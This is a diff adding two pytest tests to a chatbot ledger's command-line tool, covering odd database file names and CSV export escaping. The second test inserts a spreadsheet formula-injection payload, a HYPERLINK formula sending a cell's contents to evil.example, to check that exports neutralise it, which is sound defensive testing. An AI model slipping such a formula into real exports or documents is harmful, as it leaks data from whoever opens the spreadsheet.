@@ -100,6 +100,37 @@ def test_analysts_commands_do_not_change_the_ledger(demo: Path, tmp_path: Path) 
     assert _fingerprint(demo) == before
 
 
+@pytest.mark.parametrize("name", ["team#1.db", "q?x.db", "50%25.db"])
+def test_analysts_commands_read_the_ledger_named_whatever_its_path_holds(tmp_path: Path, name: str) -> None:
+    db = tmp_path / name
+    build(db).conn.close()
+    out = run(db, "export", "runs", "--format", "json")
+    assert out.exit_code == 0, out.output
+    assert len(json.loads(out.output)) == 7
+    assert run(db, "report", "--format", "json").exit_code == 0
+    made = sorted(p.name for p in tmp_path.iterdir() if not p.name.endswith(("-wal", "-shm")))
+    assert made == [name]  # no other file opened in its place by a read-only command
+
+
+def test_csv_cells_people_typed_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
+    from bot.store import open_db
+
+    db = tmp_path / "h.db"
+    build(db).conn.close()
+    ledger = open_db(db)
+    ledger.execute(
+        "INSERT INTO messages (run_id, direction, channel, conversation, actor_id, actor_name, step, kind, text,"
+        " created_at) VALUES (1, 'in', 'rasa', 'rasa:x', 'rasa:x', '@SUM(1+1)', 'decision', 'answer', ?, ?)",
+        ('=HYPERLINK("https://evil.example/?d="&A1,"Details")', "2026-03-02T10:00:00.000Z"),
+    )
+    ledger.conn.close()
+    out = run(db, "export", "messages", "--format", "csv")
+    assert out.exit_code == 0, out.output
+    cells = [c for row in csv.reader(io.StringIO(out.output)) for c in row]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@")] == []
+    assert '\'=HYPERLINK("https://evil.example/?d="&A1,"Details")' in cells and "'@SUM(1+1)" in cells
+
+
 def test_report_without_a_ledger_says_what_to_do(tmp_path: Path) -> None:
     result = run(tmp_path / "none.db", "report")
     assert result.exit_code == 1
